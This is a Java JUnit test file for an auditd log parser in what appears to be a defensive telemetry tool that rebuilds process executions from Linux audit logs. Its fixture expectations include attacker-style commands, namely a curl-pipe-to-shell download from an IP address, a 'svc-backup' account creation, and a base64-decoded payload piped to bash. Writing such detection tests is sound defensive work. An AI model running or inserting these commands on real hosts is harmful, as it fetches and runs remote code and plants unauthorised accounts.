package io.runwatch.core.telemetry.auditd;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.runwatch.core.ingest.ErrorKind;
import io.runwatch.core.ingest.IngestError;
import io.runwatch.core.model.HostExecution;
import io.runwatch.core.model.TelemetryFormat;
import io.runwatch.core.telemetry.TelemetryCapture;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class AuditdParserTest {
  private static final String ORCHESTRATION =
      "/var/lib/amazon/ssm/i-0d4e5f6a7b8c9d0e1/document/orchestration/"
          + "8f3c2a9e-1b4d-4e6f-9a7c-2d5e8f1b3c4a/awsrunShellScript/0.awsrunShellScript";
  private static final Instant T0 = Instant.parse("2026-11-22T10:15:02Z");

  private final AuditdParser parser = new AuditdParser();

  static Path fixture(String name) {
    try {
      return Path.of(AuditdParserTest.class.getResource("/telemetry/auditd/" + name).toURI());
    } catch (URISyntaxException e) {
      throw new IllegalStateException(e);
    }
  }

  private TelemetryCapture parseFixture(String name, String defaultHost) {
    try (BufferedReader in = Files.newBufferedReader(fixture(name), StandardCharsets.UTF_8)) {
      TelemetryCapture c = new TelemetryCapture();
      c.returned = parser.parse(in, name, defaultHost, c);
      return c;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private TelemetryCapture parseText(String text, String defaultHost) throws IOException {
    TelemetryCapture c = new TelemetryCapture();
    c.returned = parser.parse(new BufferedReader(new StringReader(text)), "inline", defaultHost, c);
    return c;
  }

  @Test
  void joinsTheSsmRunCommandChainByItsSerials() {
    TelemetryCapture c = parseFixture("ssm-run-command.audit.log", "i-0d4e5f6a7b8c9d0e1");

    assertThat(c.executions)
        .extracting(HostExecution::eventId)
        .containsExactly("5001", "5002", "5004", "5005", "5007", "5010");
    HostExecution shell = c.executions.get(1);
    assertThat(shell.host()).isEqualTo("i-0d4e5f6a7b8c9d0e1");
    assertThat(shell.time()).isEqualTo(T0.plusMillis(318));
    assertThat(shell.pid()).isEqualTo(2231L);
    assertThat(shell.ppid()).isEqualTo(2210L);
    assertThat(shell.image()).as("exe: sh is bash on Amazon Linux").isEqualTo("/usr/bin/bash");
    assertThat(shell.commandLine()).isEqualTo("sh -c " + ORCHESTRATION + "/_script.sh");
    assertThat(shell.currentDirectory()).isEqualTo(ORCHESTRATION);
    assertThat(shell.user()).as("RAW log: the numeric uid").isEqualTo("0");
    assertThat(shell.parentImage())
        .as("the worker's own exec, earlier in the log, names the parent")
        .isEqualTo("/usr/bin/ssm-document-worker");
    assertThat(shell.parentCommandLine())
        .isEqualTo(
            "/usr/bin/ssm-document-worker"
                + " 8f3c2a9e-1b4d-4e6f-9a7c-2d5e8f1b3c4a.i-0d4e5f6a7b8c9d0e1");
    assertThat(shell.format()).isEqualTo(TelemetryFormat.AUDITD);
    assertThat(shell.origin().source()).isEqualTo("ssm-run-command.audit.log");
    assertThat(shell.origin().index()).as("line of the SYSCALL record").isEqualTo(7);
  }

  @Test
  void decodesHexArgumentsAndReadsTheEnrichedUser() {
    TelemetryCapture c = parseFixture("ssm-run-command.audit.log", "i-0d4e5f6a7b8c9d0e1");

    HostExecution useradd = c.executions.get(2);
    assertThat(useradd.commandLine()).isEqualTo("useradd -m -c Backup Operator svc-backup");
    assertThat(useradd.user()).as("UID=\"root\" after the 0x1D separator").isEqualTo("root");
    assertThat(useradd.image()).isEqualTo("/usr/sbin/useradd");
    assertThat(useradd.parentImage()).isEqualTo("/usr/bin/bash");
    assertThat(useradd.parentCommandLine()).isEqualTo("sh -c " + ORCHESTRATION + "/_script.sh");

    HostExecution curl = c.executions.get(3);
    assertThat(curl.commandLine())
        .isEqualTo("/bin/bash -c curl -fsS \"http://198.51.100.23/u.sh\" | sh");

    HostExecution cron = c.executions.get(4);
    assertThat(cron.commandLine())
        .isEqualTo("/bin/sh -c cd / && run-parts --report /etc/cron.hourly");
    assertThat(cron.parentImage()).as("cron's own exec is not in the log").isNull();
  }

  @Test
  void reassemblesAnArgumentSplitAcrossExecveRecords() throws IOException {
    TelemetryCapture c = parseFixture("ssm-run-command.audit.log", "i-0d4e5f6a7b8c9d0e1");

    String expected =
        Files.readString(fixture("ssm-run-command.long-argument.txt"), StandardCharsets.UTF_8)
            .strip();
    HostExecution split = c.executions.get(5);
    assertThat(split.commandLine()).isEqualTo("bash -c " + expected);
    assertThat(split.commandLine()).endsWith(" | base64 -d | bash").hasSize(8 + 3952);
  }

  @Test
  void reportsOtherEventsAsHeardAndBadLinesAsLocatedErrors() {
    TelemetryCapture c = parseFixture("ssm-run-command.audit.log", "i-0d4e5f6a7b8c9d0e1");

    assertThat(c.heard)
        .as("openat, connect, USER_LOGIN, failed execve")
        .containsExactly(
            "i-0d4e5f6a7b8c9d0e1@" + T0.plusMillis(319),
            "i-0d4e5f6a7b8c9d0e1@" + T0.plusMillis(1602),
            "i-0d4e5f6a7b8c9d0e1@" + T0.plusSeconds(61).plusMillis(440),
            "i-0d4e5f6a7b8c9d0e1@" + T0.plusSeconds(62).plusMillis(5));
    assertThat(c.errors).hasSize(2);
    IngestError cut = c.errors.get(0);
    assertThat(cut.kind()).isEqualTo(ErrorKind.INVALID_FIELD);
    assertThat(cut.field()).isEqualTo("msg");
    assertThat(cut.where().index()).isEqualTo(37);
    assertThat(cut.where().source()).isEqualTo("ssm-run-command.audit.log");
    IngestError garbage = c.errors.get(1);
    assertThat(garbage.kind()).isEqualTo(ErrorKind.MISSING_FIELD);
    assertThat(garbage.field()).isEqualTo("type");
    assertThat(garbage.where().index()).isEqualTo(51);
    assertThat(c.returned).isEqualTo(12).isEqualTo(c.reported());
  }

  @Test
  void takesTheHostFromNodeAndFinishesAnEventAtTheEndOfInput() {
    TelemetryCapture c = parseFixture("node-prefixed.audit.log", null);

    assertThat(c.errors).isEmpty();
    assertThat(c.executions)
        .extracting(HostExecution::host, HostExecution::eventId, HostExecution::commandLine)
        .containsExactly(
            tuple("web-01", "881", "/usr/bin/systemd-run --scope true"),
            tuple("web-02", "77", "ls -la /srv/app"),
            tuple("web-01", "882", "id"));
    HostExecution arm = c.executions.get(1);
    assertThat(arm.image()).as("aarch64 execve is syscall 221").isEqualTo("/usr/bin/ls");
    assertThat(arm.user()).isEqualTo("1001");
    HostExecution id = c.executions.get(2);
    assertThat(id.parentImage())
        .as("same node, earlier exec of the ppid")
        .isEqualTo("/usr/bin/systemd-run");
    assertThat(id.commandLine()).as("no PROCTITLE, no EOE: EXECVE alone").isEqualTo("id");
  }

  @Test
  void withoutNodeOrDefaultHostEveryEventIsAnErrorNamingNode() {
    TelemetryCapture c = parseFixture("no-eoe.audit.log", null);

    assertThat(c.executions).isEmpty();
    assertThat(c.errors)
        .hasSize(3)
        .allSatisfy(
            e -> {
              assertThat(e.kind()).isEqualTo(ErrorKind.MISSING_FIELD);
              assertThat(e.field()).isEqualTo("node");
            });
    assertThat(c.errors).extracting(e -> e.where().index()).containsExactly(0L, 3L, 6L);
    assertThat(c.returned).isEqualTo(3);
  }

  @Test
  void withoutEoeRecordsALaterSerialEndsTheEvent() {
    TelemetryCapture c = parseFixture("no-eoe.audit.log", "legacy-01");

    assertThat(c.executions)
        .extracting(HostExecution::commandLine)
        .containsExactly("uname -a", "hostname", "whoami");
    assertThat(c.executions).allSatisfy(e -> assertThat(e.currentDirectory()).isEqualTo("/tmp"));
  }

  @Test
  void withoutEoeAnEventIsReportedWhenTheNextSerialArrivesNotAtTheEnd() throws IOException {
    String log = Files.readString(fixture("no-eoe.audit.log"), StandardCharsets.UTF_8);
    LineByLineReader reader = new LineByLineReader(log);
    List<Integer> deliveredAtExecution = new ArrayList<>();
    TelemetryCapture c =
        new TelemetryCapture() {
          @Override
          public void execution(HostExecution execution) {
            super.execution(execution);
            deliveredAtExecution.add(reader.delivered);
          }
        };
    parser.parse(new BufferedReader(reader, 16), "no-eoe.audit.log", "legacy-01", c);

    assertThat(deliveredAtExecution)
        .as("lines handed to the parser when each exec was reported (9 in all)")
        .hasSize(3);
    assertThat(deliveredAtExecution.get(0)).isLessThanOrEqualTo(5);
    assertThat(deliveredAtExecution.get(1)).isLessThanOrEqualTo(8);
  }

  /** Hands out one line per read, and counts them. */
  static final class LineByLineReader extends java.io.Reader {
    private final String[] lines;
    private int next;
    private String pending = "";
    int delivered;

    LineByLineReader(String text) {
      this.lines = text.split("(?<=\n)");
    }

    @Override
    public int read(char[] buf, int off, int len) {
      if (pending.isEmpty()) {
        if (next == lines.length) {
          return -1;
        }
        pending = lines[next++];
        delivered++;
      }
      int n = Math.min(len, pending.length());
      pending.getChars(0, n, buf, off);
      pending = pending.substring(n);
      return n;
    }

    @Override
    public void close() {}
  }

  @Test
  void interleavedEventsJoinOnTheirSerial() throws IOException {
    // Once the log has shown an EOE, a later serial no longer ends the events before it.
    String log =
        """
        type=EOE msg=audit(1795342502.000:9):\s
        type=SYSCALL msg=audit(1795342502.100:10): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 uid=0 comm="a" exe="/usr/bin/a"
        type=SYSCALL msg=audit(1795342502.101:11): arch=c000003e syscall=322 success=yes exit=0 ppid=1 pid=21 uid=0 comm="b" exe="/usr/bin/b"
        type=EXECVE msg=audit(1795342502.100:10): argc=1 a0="a"
        type=EXECVE msg=audit(1795342502.101:11): argc=2 a0="b" a1=2D2D6F6E652074776F
        type=EOE msg=audit(1795342502.101:11):\s
        type=EOE msg=audit(1795342502.100:10):\s
        """;
    TelemetryCapture c = parseText(log, "h");

    assertThat(c.errors).isEmpty();
    assertThat(c.executions)
        .extracting(HostExecution::eventId, HostExecution::commandLine)
        .containsExactly(tuple("11", "b --one two"), tuple("10", "a"));
  }

  @Test
  void proctitleStandsInWhenThereIsNoExecveRecord() throws IOException {
    String log =
        """
        type=SYSCALL msg=audit(1795342502.100:10): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 uid=0 comm="sleep" exe="/usr/bin/sleep"
        type=PROCTITLE msg=audit(1795342502.100:10): proctitle=736C65657000333030
        type=EOE msg=audit(1795342502.100:10):\s
        """;
    TelemetryCapture c = parseText(log, "h");

    assertThat(c.executions)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.commandLine()).isEqualTo("sleep 300");
              assertThat(e.image()).isEqualTo("/usr/bin/sleep");
            });
  }

  @Test
  void hugeArgvIsCutAndTheRememberedParentCommandLineIsShort() throws IOException {
    String big = "x".repeat(100_000);
    String log =
        "type=EOE msg=audit(1795342502.000:1): \n"
            + "type=SYSCALL msg=audit(1795342502.100:10): arch=c000003e syscall=59 success=yes"
            + " ppid=1 pid=20 uid=0 exe=\"/usr/bin/a\"\n"
            + "type=EXECVE msg=audit(1795342502.100:10): argc=3 a0=\"a\" a1_len=100000"
            + " a1[0]=\""
            + big
            + "\" a2[0]=\""
            + big
            + "\"\n"
            + "type=EOE msg=audit(1795342502.100:10): \n"
            + "type=SYSCALL msg=audit(1795342502.200:11): arch=c000003e syscall=59 success=yes"
            + " ppid=20 pid=21 uid=0 exe=\"/usr/bin/b\"\n"
            + "type=EOE msg=audit(1795342502.200:11): \n";
    TelemetryCapture c = parseText(log, "h");

    assertThat(c.executions).hasSize(2);
    assertThat(c.executions.get(0).commandLine())
        .startsWith("a x")
        .endsWith("x…")
        .hasSizeLessThanOrEqualTo(ExecveArgs.MAX_BYTES + 3);
    assertThat(c.executions.get(1).parentImage()).isEqualTo("/usr/bin/a");
    assertThat(c.executions.get(1).parentCommandLine())
        .hasSize(AuditdParser.MAX_REMEMBERED_COMMAND_LINE + 1);
  }

  @Test
  void openEventsStayBounded() throws IOException {
    StringBuilder log = new StringBuilder();
    // an EOE first, so that later serials alone do not end events
    log.append("type=EOE msg=audit(1795342502.000:1): \n");
    for (int i = 0; i < 200; i++) {
      log.append("type=SYSCALL msg=audit(1795342502.000:")
          .append(100 + i)
          .append("): arch=c000003e syscall=59 success=yes ppid=1 pid=")
          .append(1000 + i)
          .append(" uid=0 exe=\"/usr/bin/true\"\n");
    }
    TelemetryCapture c = parseText(log.toString(), "h");

    assertThat(c.executions).hasSize(200);
    assertThat(c.executions.get(0).eventId())
        .as("evicted (oldest first) long before the end of input")
        .isEqualTo("100");
    assertThat(c.returned).isEqualTo(201);
  }

  @Test
  void ausearchSeparatorsAndBlankLinesAreNotRecords() throws IOException {
    String log =
        """
        ----
        time->Sun Nov 22 10:15:02 2026

        type=SYSCALL msg=audit(1795342502.100:10): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 uid=0 exe="/usr/bin/a"
        type=EOE msg=audit(1795342502.100:10):\s
        """;
    TelemetryCapture c = parseText(log, "h");

    assertThat(c.errors).isEmpty();
    assertThat(c.executions)
        .singleElement()
        .satisfies(e -> assertThat(e.origin().index()).isEqualTo(3));
  }

  @Test
  void recognizesAuditLogsOnly() throws IOException {
    assertThat(parser.recognizes(Files.readString(fixture("ssm-run-command.audit.log")))).isTrue();
    assertThat(parser.recognizes(Files.readString(fixture("node-prefixed.audit.log")))).isTrue();
    assertThat(
            parser.recognizes(
                "----\ntime->Sun Nov 22 10:15:02 2026\ntype=SYSCALL msg=audit(1.2:3): x=1"))
        .isTrue();
    assertThat(
            parser.recognizes(
                "{\"Records\":[{\"eventVersion\":\"1.08\",\"eventSource\":\"ssm.amazonaws.com\"}]}"))
        .as("CloudTrail")
        .isFalse();
    assertThat(
            parser.recognizes(
                "{\"records\":[{\"operationName\":\"MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION\"}]}"))
        .as("Azure Activity")
        .isFalse();
    assertThat(
            parser.recognizes(
                "{\"protoPayload\":{\"@type\":\"type.googleapis.com/google.cloud.audit.AuditLog\"}}"))
        .as("GCP audit log")
        .isFalse();
    assertThat(
            parser.recognizes(
                "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><EventID>1</EventID>"))
        .as("Sysmon XML")
        .isFalse();
    assertThat(
            parser.recognizes("Nov 22 10:15:02 web-01 sshd[811]: Accepted publickey for ec2-user"))
        .as("syslog")
        .isFalse();
    assertThat(parser.recognizes("type=SYSCALL without a stamp")).isFalse();
  }

  @Test
  void fieldDecodingEdgeCases() {
    assertThat(AuditFields.decode("\"plain\"")).isEqualTo("plain");
    assertThat(AuditFields.decode("2F746D702F6120622E7368")).isEqualTo("/tmp/a b.sh");
    assertThat(AuditFields.decode("(null)")).isNull();
    assertThat(AuditFields.decode("\"cut-short")).isEqualTo("cut-short");
    assertThat(AuditFields.proctitle("2F62696E2F7368002D6300")).isEqualTo("/bin/sh -c");
    assertThat(ExecveArgs.argumentIndex("a12")).isEqualTo(12);
    assertThat(ExecveArgs.argumentIndex("a2[1]")).isEqualTo(2);
    assertThat(ExecveArgs.argumentIndex("a2_len")).isEqualTo(-1);
    assertThat(ExecveArgs.argumentIndex("argc")).isEqualTo(-1);
    assertThat(AuditFields.split("a=1 avc:  denied  { read } b=\"x y\" c='m=1 n=2' d="))
        .containsEntry("a", "1")
        .containsEntry("b", "\"x y\"")
        .containsEntry("c", "'m=1 n=2'")
        .containsEntry("d", "")
        .doesNotContainKey("avc:");
  }
}
